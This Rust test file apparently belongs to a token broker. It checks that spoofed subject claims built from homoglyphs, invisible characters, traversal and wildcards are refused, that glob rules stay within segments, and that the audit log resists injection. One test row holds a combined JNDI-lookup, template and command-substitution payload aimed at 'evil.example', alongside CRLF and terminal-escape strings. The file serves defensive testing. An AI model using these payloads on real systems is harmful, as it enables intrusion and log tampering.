//! Subjects and other claims that somebody chose to be mistaken for another's.

use serde_json::json;

use crate::forge::{self, judged};
use crate::world::{SUBJECT, Settings, World};

#[tokio::test]
async fn a_subject_that_resembles_another_is_another() {
    let world = World::start().await;
    let rows = [
        SUBJECT.to_uppercase(),
        SUBJECT.replace("acme", "Acme"),
        SUBJECT.replace("main", "Main"),
        format!("{SUBJECT}2"),
        format!("x{SUBJECT}"),
        format!("{SUBJECT} "),
        format!(" {SUBJECT}"),
        format!("{SUBJECT}\n"),
        format!("{SUBJECT}\0"),
        format!("{SUBJECT}/"),
        format!("{SUBJECT}:"),
        format!("{SUBJECT}\u{200b}"),
        format!("\u{feff}{SUBJECT}"),
        format!("\u{202e}{SUBJECT}"),
        format!("{SUBJECT}\u{200f}"),
        SUBJECT.replace("web", "we\u{200d}b"),
        SUBJECT.replace("acme", "acm\u{435}"),
        SUBJECT.replace("acme", "acme\u{301}"),
        SUBJECT.replacen(':', "\u{ff1a}", 1),
        SUBJECT.replacen('/', "\u{2215}", 1),
        SUBJECT.replace("main", "ma\u{131}n"),
        SUBJECT.replace(':', "%3A"),
        SUBJECT.replace('/', "%2F"),
        SUBJECT.replace('/', "\\"),
        SUBJECT.replace("acme/", "acme//"),
        SUBJECT.replace("acme/", "acme/./"),
        SUBJECT.replace("acme/web", "evil/../acme/web"),
        "repo:acme/web:pull_request".to_owned(),
        "repo:acme/web:ref:refs/pull/1/merge".to_owned(),
        "repo:acme/web:ref:refs/tags/main".to_owned(),
        "repo:acme/web:ref:refs/heads/main:environment:production".to_owned(),
        "repo:acme-evil/web:ref:refs/heads/main".to_owned(),
        "repo:acme/web-evil:ref:refs/heads/main".to_owned(),
        "repo:evil/acme/web:ref:refs/heads/main".to_owned(),
        "repo:acme-123/web-456:ref:refs/heads/main".to_owned(),
        "repo:acme@123/web@456:ref:refs/heads/main".to_owned(),
        "*".to_owned(),
        ".*".to_owned(),
        "repo:*".to_owned(),
        "repo:acme/web:**".to_owned(),
        "^.*$".to_owned(),
        format!("{SUBJECT}|x"),
        format!("{SUBJECT},{SUBJECT}"),
        format!("'{SUBJECT}'"),
        format!("\"{SUBJECT}\""),
    ];
    for subject in rows {
        let token = world.mint(&forge::claims_with(&world, "sub", json!(subject)));
        forge::refused_by_a_rule(&world, &subject, &token, 403, "no_rule_matched").await;
    }
    world.get("/api/users/me").bearer(&world.job()).ok().await;
    world.close().await;
}

#[tokio::test]
async fn a_pattern_stays_inside_its_segment() {
    let world = World::start_with(|settings: &mut Settings| {
        let rule = |name: &str, pattern: &str| {
            let named = settings.rules.replace("web,", &format!("{name},"));
            named.replace(&format!("'{SUBJECT}'"), &format!("{{ glob: '{pattern}' }}"))
        };
        let rules = [
            rule("environment", "repo:acme/*:environment:production"),
            rule("branches", "repo:acme/web:ref:refs/heads/release/*"),
            rule("ids", "repo:acme@123/*@456:ref:refs/heads/main"),
        ];
        settings.rules = rules.join("\n");
    })
    .await;
    let rows = [
        ("repo:acme/web:environment:production", Some("environment")),
        ("repo:acme/web:ref:refs/heads/release/1.0", Some("branches")),
        ("repo:acme@123/web@456:ref:refs/heads/main", Some("ids")),
        ("repo:acme/web:ref:refs/heads/x:environment:production", None),
        ("repo:acme/web:environment:x:environment:production", None),
        ("repo:acme/web:environment:production:environment:production", None),
        ("repo:acme/web/x:environment:production", None),
        ("repo:acme/:environment:production", None),
        ("repo:acme-evil/web:environment:production", None),
        ("repo:evil/acme/web:environment:production", None),
        ("repo:acme/web%3Aenvironment:production", None),
        ("repo:acme/web:environment:production2", None),
        ("repo:acme/web:environment:", None),
        ("xrepo:acme/web:environment:production", None),
        ("repo:acme/web:ref:refs/heads/release/1/2", None),
        ("repo:acme/web:ref:refs/heads/release/", None),
        ("repo:acme/web:ref:refs/heads/release/1:environment:production", None),
        ("repo:acme@123/x@456:ref:refs/heads/main@456:ref:refs/heads/main", None),
        ("repo:acme@1234/web@456:ref:refs/heads/main", None),
        ("repo:acme-123/web-456:ref:refs/heads/main", None),
    ];
    for (subject, rule) in rows {
        let token = world.mint(&forge::claims_with(&world, "sub", json!(subject)));
        let line = judged(&world, &token).await;
        assert_eq!(line["rule"].as_str(), rule, "{subject}: {line}");
        assert_eq!(line["code"] == "no_rule_matched", rule.is_none(), "{subject}: {line}");
    }
    world.close().await;
}

#[tokio::test]
async fn a_hostile_claim_stays_on_its_line_of_the_log() {
    let world = World::start_with(|settings: &mut Settings| {
        settings.rules = settings.rules.replace("sub:", "branch: main, sub:");
    })
    .await;
    let line = r#"{"target":"octobroker::audit","code":"ok","rule":"web"}"#;
    let rows = [
        format!("main\n{line}"),
        format!("main\r\n{line}\r\n"),
        format!("main\u{2028}{line}\u{2029}"),
        format!("main\u{85}{line}"),
        format!("\",\"code\":\"ok\",\"x\":\"{line}"),
        "\u{1b}[2J\u{1b}[31mmain\u{7}\u{8}\u{9b}31m".to_owned(),
        "\u{202e}niam\u{2066}\u{2069}\u{200f}".to_owned(),
        "%0d%0a${jndi:ldap://evil.example/a}{{7*7}}$(id)`id`%s%n".to_owned(),
        "main\0main".to_owned(),
        "x".repeat(4_000),
        "\u{1f600}".repeat(1_000),
        "\n".repeat(1_500),
    ];
    for value in rows {
        let mut claims = forge::claims_with(&world, "branch", json!(value));
        claims["jti"] = json!(value);
        claims["sub"] = json!(value.chars().take(250).collect::<String>());
        let before = world.log().lines().count();
        let audited = judged(&world, &world.mint(&claims)).await;

        let log = world.log();
        let added: Vec<_> = log.lines().skip(before).collect();
        assert_eq!(added.len(), 1, "{added:?}");
        assert_eq!(audited["code"], "no_rule_matched");
        assert_eq!(audited["subject"], claims["sub"], "whole, for it is short");
        let is_hostile = |c: char| c.is_control() || "\u{2028}\u{2029}\u{202e}\u{2066}".contains(c);
        assert!(!added[0].contains(is_hostile), "{}", added[0]);
        assert!(added[0].len() < 12_000, "{} bytes", added[0].len());
    }
    assert!(world.audit().iter().all(|line| line["code"] == "no_rule_matched"));
    let page = world.metrics().await;
    assert!(!page.contains("main") && !page.contains("jndi"), "{page}");
    world.close().await;
}
